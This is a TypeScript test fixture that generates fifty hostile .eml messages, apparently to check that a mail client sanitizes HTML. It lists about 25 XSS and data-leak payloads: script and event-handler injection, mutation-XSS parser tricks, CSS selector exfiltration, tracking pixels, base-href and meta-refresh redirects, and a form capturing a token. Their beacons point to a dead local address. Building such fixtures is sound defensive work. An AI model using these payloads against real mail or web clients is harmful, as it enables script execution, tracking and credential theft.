/** Where what is smuggled out would go: an address that nobody answers. */
export const elsewhere = "http://127.0.0.1:9/out";

const run = `window.top.ran=(window.top.ran||0)+1;fetch('${elsewhere}/fetch')`;

/** HTML that wants to run, to load, to lead away or to cover the page. Each is tried as the body of a mail and as its words. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<script src="${elsewhere}/s.js"></script>`,
  `<img src="x:" onerror="${run}">`,
  `<img src="${elsewhere}/pixel.gif?who=me" width="1" height="1">`,
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><image href="${elsewhere}/svg.png"/><use href="${elsewhere}/u.svg#a"/></svg>`,
  `<a href="javascript:${run}" autofocus onfocus="${run}">press</a>`,
  `<body onload="${run}" background="${elsewhere}/bg.png">`,
  `<style>@import "${elsewhere}/i.css";body{background:url(${elsewhere}/css.png)}input[value^=a]{background:url(${elsewhere}/a)}</style>`,
  `<link rel="stylesheet" href="${elsewhere}/l.css"><link rel="preload" as="image" href="${elsewhere}/p.png">`,
  `<link rel="dns-prefetch" href="//smuggled.example"><link rel="prefetch" href="${elsewhere}/f">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/meta">`,
  `<base href="${elsewhere}/"><img src="relative.png">`,
  `<iframe src="${elsewhere}/frame"></iframe><iframe srcdoc="<script>${run.replaceAll('"', "'")}</script>"></iframe>`,
  `<object data="${elsewhere}/o.swf"></object><embed src="${elsewhere}/e.swf">`,
  `<form action="${elsewhere}/form"><input autofocus onfocus="${run}" name="token"><button>send</button></form>`,
  `<video src="${elsewhere}/v.mp4" autoplay poster="${elsewhere}/v.png" onerror="${run}"></video><audio src="${elsewhere}/a.mp3">`,
  `<details open ontoggle="${run}">x</details><marquee onstart="${run}">y</marquee>`,
  `<div style="position:fixed;inset:0;background:url('${elsewhere}/cover.png')">covers everything</div>`,
  `<table background="${elsewhere}/t.png"><tr><td background="${elsewhere}/td.png" colspan="99999999">x</td></tr></table>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<noscript><p title="</noscript><img src=x: onerror=${run}>"></noscript>`,
  `<template><script>${run}</script></template><xmp><img src="${elsewhere}/xmp"></xmp><plaintext><img src="${elsewhere}/pt">`,
  `\u202E<b>gnp.tnemucod\u202C\u2066\u200B\u200D\uFEFF<img src="${elsewhere}/bidi">`,
  `<${"div><".repeat(700)}b>${"A".repeat(20_000)}<img src="${elsewhere}/deep">`,
];

const header = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;
const base64 = (text: string): string => Buffer.from(text).toString("base64").replace(/.{76}/g, "$&\r\n");

const mailOf = (at: number, subject: string, from: string, html: string, attached: string): string =>
  [
    `From: ${header(from)} <someone${at}@hostile.example>`,
    "To: you@zonnewijzer.example",
    `Subject: ${header(subject)}`,
    `Date: Mon, ${String(1 + (at % 28)).padStart(2, "0")} Sep 2025 10:00:00 +0000`,
    `Message-ID: <hostile-${at}@hostile.example>`,
    "MIME-Version: 1.0",
    'Content-Type: multipart/mixed; boundary="border"',
    "",
    "--border",
    "Content-Type: text/html; charset=utf-8",
    "Content-Transfer-Encoding: base64",
    "",
    base64(html),
    "--border",
    `Content-Type: text/plain; name="${header(attached)}"`,
    `Content-Disposition: attachment; filename="${header(attached)}"`,
    "",
    "attached words",
    "--border--",
    "",
  ].join("\r\n");

const escaped = (text: string): string => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;");

/** Fifty made mails: each payload once as the HTML of a mail, and once as its subject, sender, words and the name of what is attached. */
export const hostileMails = (): { readonly path: string; readonly bytes: Uint8Array }[] =>
  payloads.flatMap((payload, at) => {
    const asHtml = mailOf(
      at,
      `Hostile ${at}`,
      "Someone",
      `<p>Words before.</p>${payload}<p>Words after.</p>`,
      `note${at}.txt`,
    );
    const words = payload.slice(0, 800);
    const asWords = mailOf(
      at + 100,
      words,
      words,
      `<p>Words ${at}: ${escaped(payload)}</p>`,
      words.replaceAll("/", "_"),
    );
    return [asHtml, asWords].map((mail, form) => ({
      path: `hostile-${at}-${form}.eml`,
      bytes: new TextEncoder().encode(mail),
    }));
  });
